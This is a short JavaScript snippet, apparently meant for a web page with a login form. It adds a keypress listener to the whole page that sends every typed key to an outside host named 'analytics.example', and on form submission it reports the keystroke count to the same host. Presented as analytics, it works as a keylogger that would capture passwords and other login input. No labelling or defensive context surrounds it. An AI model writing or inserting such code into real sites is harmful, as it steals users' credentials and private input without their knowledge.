var keys = 0;
var form = document.getElementById("login");
document.body.addEventListener("keypress", function logKey(e) {
  keys += 1;
  sendRequest("http://analytics.example/key?k=" + e.key);
});
form.addEventListener("submit", function report(e) {
  sendRequest("http://analytics.example/keys?n=" + keys);
});
